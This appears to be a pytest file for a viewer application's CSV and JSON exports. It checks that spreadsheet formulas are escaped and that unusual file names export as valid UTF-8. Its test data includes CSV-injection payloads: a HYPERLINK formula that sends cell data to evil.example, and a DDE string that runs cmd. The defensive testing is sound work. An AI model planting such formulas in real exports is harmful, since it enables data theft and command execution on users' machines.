"""The CSV and JSON exports of whatever a file holds: no live formulas, any file name, valid UTF-8."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os

import pytest

from tests.core.exchange.event_file_helpers import imported, write
from viewer.core.document import analyse
from viewer.core.exchange.atomic_write import write_text_atomically
from viewer.core.exchange.export import CSV_FIELDS, documents_json_obj, events_csv
from viewer.core.opening import open_document

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd", "-2"]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def formula_file(tmp_path):
    rows = "".join(f'2017-10-{10 + i},"{f.replace(chr(34), chr(34) * 2)}","{f.replace(chr(34), chr(34) * 2)}"\n'
                   for i, f in enumerate(FORMULAS))
    return write(tmp_path, "=evil.csv", "start,title,lane\n" + rows + "2017-11-01,\t=1+2,Town\n")


def test_titles_lanes_and_paths_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
    doc = open_document(formula_file(tmp_path))
    assert [e.title for e in doc.events] == [*FORMULAS, "=1+2"]  # the tab went with the stripping
    rows = csv_rows(events_csv([doc]))
    assert [r["title"] for r in rows] == [f"'{f}" for f in FORMULAS] + ["'=1+2"]
    assert [r["lane"] for r in rows] == [f"'{f}" for f in FORMULAS] + ["Town"]
    assert {r["path"] for r in rows} == {str(tmp_path / "=evil.csv")}  # it starts with '/'


def test_a_path_that_starts_like_a_formula_gets_an_apostrophe():
    rows = csv_rows(events_csv([analyse("The pier opened on 26 October 2017.", "-rf.txt")]))
    assert rows[0]["path"] == "'-rf.txt"


def test_our_own_columns_are_not_touched(tmp_path):
    doc = imported(tmp_path, "start,end,title\n480 BC,,-1 Thermopylae\n2017-10,2017-12,Storms\n")
    rows = csv_rows(events_csv([doc]))
    assert [(r["start"], r["end"], r["value"]) for r in rows] == [
        ("-0479-01-01", "-0479-12-31", "BC0480"), ("2017-10-01", "2017-12-31", "2017-10")]
    assert rows[0]["sentence_start"] == "0" and rows[1]["sentence_start"].isdigit()
    assert rows[0]["title"] == "'-1 Thermopylae"


def test_the_export_reads_back_to_the_same_titles_and_lanes(tmp_path):
    first = open_document(formula_file(tmp_path))
    again = imported(tmp_path, events_csv([first]), "again.csv")
    assert [(e.title, e.lane) for e in again.events] == [(e.title, e.lane) for e in first.events]
    assert again.problems == ()


def test_a_title_with_its_own_apostrophe_reads_back(tmp_path):
    first = imported(tmp_path, "start,title,lane\n2017,'=not a formula,'-\n2018,'quoted',Town\n")
    assert [(e.title, e.lane) for e in first.events] == [("=not a formula", "-"), ("'quoted'", "Town")]
    again = imported(tmp_path, events_csv([first]), "again.csv")
    assert [(e.title, e.lane) for e in again.events] == [(e.title, e.lane) for e in first.events]


def test_a_text_document_whose_sentence_is_a_formula(tmp_path):
    doc = analyse("\t=1+2 happened on 3 May 1915.\n@SUM(A1) was seen in 1916.", "notes.txt")
    titles = [r["title"] for r in csv_rows(events_csv([doc]))]
    assert titles and all(t.startswith("'") for t in titles), titles


# ------------------------------------------------------------------ any file name, any text
NAME = b"\xff\xfe chronicle.txt"


@pytest.mark.skipif(os.name == "nt", reason="Windows names are UTF-16")
def test_a_file_name_that_is_not_utf8_is_written_as_valid_utf8(tmp_path):
    path = os.fsencode(tmp_path) + b"/" + NAME
    with open(path, "wb") as f:
        f.write(b"On 3 May 1915 the treaty was signed.")
    doc = open_document(os.fsdecode(path))
    shown_name = f"{tmp_path}/\\xff\\xfe chronicle.txt"
    data = json.dumps(documents_json_obj([doc]), ensure_ascii=False)  # as the window's export writes it
    assert json.loads(data.encode("utf-8"))["documents"][0]["path"] == shown_name
    rows = csv_rows(events_csv([doc]))
    assert rows[0]["path"] == shown_name
    out = tmp_path / "export.json"
    write_text_atomically(out, data)  # the window's JSON export of that document
    write_text_atomically(tmp_path / "export.csv", events_csv([doc]))
    assert json.loads(out.read_bytes())["documents"][0]["events"][0]["title"] == "On 3 May 1915 the treaty was signed."


def test_lone_surrogates_in_a_json_file_never_stop_an_export(tmp_path):
    doc = imported(tmp_path, '[{"start": "2017", "title": "Half \\ud83d a pair", "lane": "\\udcff"},'
                             ' {"start": "2018", "title": "A whole pair \\ud83d\\ude00"}]', "events.json")
    assert [(e.title, e.lane) for e in doc.events] == [("Half \ufffd a pair", "\ufffd"), ("A whole pair 😀", None)]
    events_csv([doc]).encode("utf-8")
    json.dumps(documents_json_obj([doc]), ensure_ascii=False).encode("utf-8")


def test_a_document_made_with_lone_surrogates_still_exports():
    doc = analyse("On 3 May 1915 the \udcff treaty was signed.", "\ud800.txt")
    text = events_csv([doc])
    text.encode("utf-8")
    assert "\ufffd treaty" in text and text.splitlines()[1].startswith("\\ud800.txt,")
    obj = documents_json_obj([doc])
    json.dumps(obj, ensure_ascii=False).encode("utf-8")
    assert "\ufffd treaty" in obj["documents"][0]["events"][0]["title"]


def test_the_csv_header_is_unchanged():
    assert events_csv([]) == ",".join(CSV_FIELDS) + "\n"


def test_each_event_says_its_section_in_json_and_csv_and_reads_back(tmp_path):
    doc = analyse("Background\n\nThe war began on 3 May 1915.\n\nThe war\n\nIt ended in 1918.\n", "a.txt")
    events = documents_json_obj([doc])["documents"][0]["events"]
    assert [e["section"] for e in events] == ["Background", "The war"]
    rows = csv_rows(events_csv([doc]))
    assert [r["section"] for r in rows] == ["Background", "The war"]
    back = open_document(write(tmp_path, "back.csv", events_csv([doc])))
    assert [e.section for e in back.events] == ["Background", "The war"]


def test_a_section_that_looks_like_a_formula_is_neutralised(tmp_path):
    doc = open_document(write(tmp_path, "in.csv", "start,title,chapter\n1915-05-03,The war began,=SUM(A1)\n"))
    assert doc.events[0].section == "=SUM(A1)"
    assert csv_rows(events_csv([doc]))[0]["section"] == "'=SUM(A1)"


# ------------------------------------------------------------------ labels
def test_each_event_has_its_label_in_json_and_csv():
    doc = analyse("However, on 3 May 1915 the army crossed the river (at dawn).[13] It took the town.", "a.txt")
    events = documents_json_obj([doc])["documents"][0]["events"]
    assert [e["label"] for e in events] == ["The army crossed the river", "It took the town"]
    rows = csv_rows(events_csv([doc]))
    assert CSV_FIELDS[-1] == "label"
    assert [r["label"] for r in rows] == ["The army crossed the river", "It took the town"]


def test_a_label_that_looks_like_a_formula_is_neutralised_and_reads_back(tmp_path):
    doc = imported(tmp_path, "start,title,label\n2017,The pier opened,=HYPERLINK(1)\n2018,-2 degrees,\n")
    assert [e.label for e in doc.events] == ["=HYPERLINK(1)", "-2 degrees"]
    rows = csv_rows(events_csv([doc]))
    assert [r["label"] for r in rows] == ["'=HYPERLINK(1)", "'-2 degrees"]
    again = imported(tmp_path, events_csv([doc]), "again.csv")
    assert [e.label for e in again.events] == ["=HYPERLINK(1)", "-2 degrees"]


def test_the_exports_read_back_to_the_same_labels(tmp_path):
    doc = analyse("Later on the same day, the garrison (about 300 men) surrendered to the besiegers. "
                  "In 1939, Germany invaded Poland.", "a.txt")
    labels = [e.label for e in doc.events]
    assert labels == ["The garrison surrendered to the besiegers", "Germany invaded Poland"]
    from_csv = imported(tmp_path, events_csv([doc]), "back.csv")
    from_json = imported(tmp_path, json.dumps(documents_json_obj([doc])), "back.json")
    assert [e.label for e in from_csv.events] == [e.label for e in from_json.events] == labels


def test_an_events_file_without_labels_gets_them_from_its_titles(tmp_path):
    doc = imported(tmp_path, '[{"start": "1915-05-03", "title": "On 3 May 1915, the army crossed the river"},'
                             ' {"start": "1916", "title": "However, the offensive (at great cost) failed", '
                             '"label": ""}]', "events.json")
    assert [e.label for e in doc.events] == ["The army crossed the river", "The offensive failed"]


def test_a_file_of_labels_alone_takes_them_as_titles(tmp_path):
    csv_doc = imported(tmp_path, "date,label\n2017-10-26,The pier opened\n")
    json_doc = imported(tmp_path, '[{"date": "2017-10-26", "label": "The pier opened"}]', "events.json")
    assert [(e.title, e.label) for e in csv_doc.events] == [("The pier opened", "The pier opened")]
    assert [(e.title, e.label) for e in json_doc.events] == [("The pier opened", "The pier opened")]


def test_a_long_label_in_a_file_is_made_to_fit(tmp_path):
    long = "A label that somebody wrote far too long for any chart to draw beside its mark"
    doc = imported(tmp_path, f"start,title,label\n2017,Pier,{long}\n")
    assert len(doc.events[0].label) <= 60 and doc.events[0].label.endswith("…")


def _many_dated_sentences(n: int) -> str:
    return "\n".join(f"On {1 + i % 28} May {1800 + i} the army crossed the {i}th river." for i in range(n))


@pytest.mark.parametrize("text, path", [
    (_many_dated_sentences(5), "few.txt"),
    (_many_dated_sentences(7), "seven.txt"),
    ("On 3 May 1915 the \udcff treaty was signed.", "\ud800.txt"),  # written with U+FFFD, as before
    ("Nothing happened here.", "undated.txt"),
])
def test_the_json_written_in_pieces_is_the_json_of_the_whole_document(monkeypatch, text, path):
    import viewer.core.exchange.export as export

    monkeypatch.setattr(export, "_ITEMS_AT_A_TIME", 3)  # pieces end inside the lists, and at their ends
    doc = analyse(text, path)
    hidden = dataclasses.replace(doc, events=doc.events[1:], hidden=tuple(doc.events[:1]))
    for d in (doc, hidden):
        whole = json.dumps(export.document_dict(d), ensure_ascii=False, separators=(",", ":"))
        assert "".join(export.document_json(d)) == whole


def test_the_csv_written_in_pieces_is_the_csv_of_the_whole_document(monkeypatch):
    import viewer.core.exchange.export as export

    doc = analyse(_many_dated_sentences(8), "eight.txt")
    whole = events_csv([doc])
    monkeypatch.setattr(export, "_ITEMS_AT_A_TIME", 3)
    pieces = list(export.document_csv(doc))
    assert len(pieces) == 3 and export.CSV_HEADER + "".join(pieces) == whole
    assert len(csv_rows(whole)) == 8


def test_the_json_of_several_documents_in_pieces_is_their_whole_json(monkeypatch):
    import viewer.core.exchange.export as export

    monkeypatch.setattr(export, "_ITEMS_AT_A_TIME", 3)
    docs = [analyse(_many_dated_sentences(4), "a.txt"), analyse("Nothing happened.", "b.txt")]
    for some in (docs, docs[:1], []):
        whole = json.dumps(documents_json_obj(some), ensure_ascii=False, separators=(",", ":"))
        assert "".join(export.documents_json(iter(some))) == whole
